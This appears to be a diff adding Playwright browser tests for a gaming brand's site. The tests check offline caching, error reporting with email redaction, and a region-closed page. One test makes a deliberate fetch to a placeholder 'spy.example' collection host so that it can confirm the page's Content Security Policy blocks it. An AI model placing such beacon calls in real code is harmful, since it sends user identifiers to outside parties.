@@ -1,0 +1,54 @@
+import { expect, open, siteKept, test } from '#testing/browser/fixtures.ts'
+
+/** The brand with the strictest policy: Trusted Types, and no vendor in the page. */
+test.use({ brand: 'totofa' })
+
+test.describe('without a connection', () => {
+  test.use({ serviceWorkers: 'allow' })
+
+  test('the brand’s own page says so at any address, and opens as soon as there is one', async ({
+    page,
+    context,
+    complaints,
+  }) => {
+    await open(page, '/')
+    await siteKept(page)
+    const kept = await page.evaluate(async () => {
+      const names = (await caches.keys()).filter((name) => name.startsWith('site '))
+      const requests = await Promise.all(names.map(async (name) => (await caches.open(name)).keys()))
+      return requests.flat().map(({ url }) => new URL(url).pathname)
+    })
+    expect(kept.filter((path) => !/^\/(assets|locales|brands)\/|^\/$/.test(path))).toEqual([])
+    await context.setOffline(true)
+    await open(page, '/promotions')
+    await expect(page.locator('html')).toHaveAttribute('data-brand', 'totofa')
+    await expect(page.locator('main[data-page=PROMOTIONS]')).toContainText('You are offline')
+    await expect(page.locator('header img')).toBeVisible()
+    await expect(page.getByText('Reconnecting')).toBeHidden()
+    await context.setOffline(false)
+    await expect(page.locator('html')).not.toHaveAttribute('data-offline')
+    await expect(page.locator('main[data-page=PROMOTIONS]')).toHaveAttribute('data-state', 'ready')
+    complaints.length = 0
+  })
+})
+
+test('faults are reported, then a closed region is said in place of the site', async ({
+  page,
+  sandbox,
+  complaints,
+}) => {
+  await open(page, '/')
+  await page.evaluate(() => {
+    setTimeout(() => {
+      throw new Error('no mail for ada@players.example')
+    })
+    fetch('https://spy.example/collect?who=ada').catch(() => undefined)
+  })
+  await expect
+    .poll(async () => (await sandbox.errors()).map(({ kind, page: at, message }) => `${kind} ${at} ${message}`).sort())
+    .toEqual(['error MAIN Error: no mail for [email]', 'policy MAIN connect-src blocked https://spy.example/collect'])
+  await sandbox.fault({ method: 'GET', path: '/api/promotions', kind: 'status', status: 451 })
+  await page.goto('/promotions')
+  await expect(page.locator('main[data-page=REGION_CLOSED]')).toContainText('Not available where you are')
+  complaints.length = 0
+})
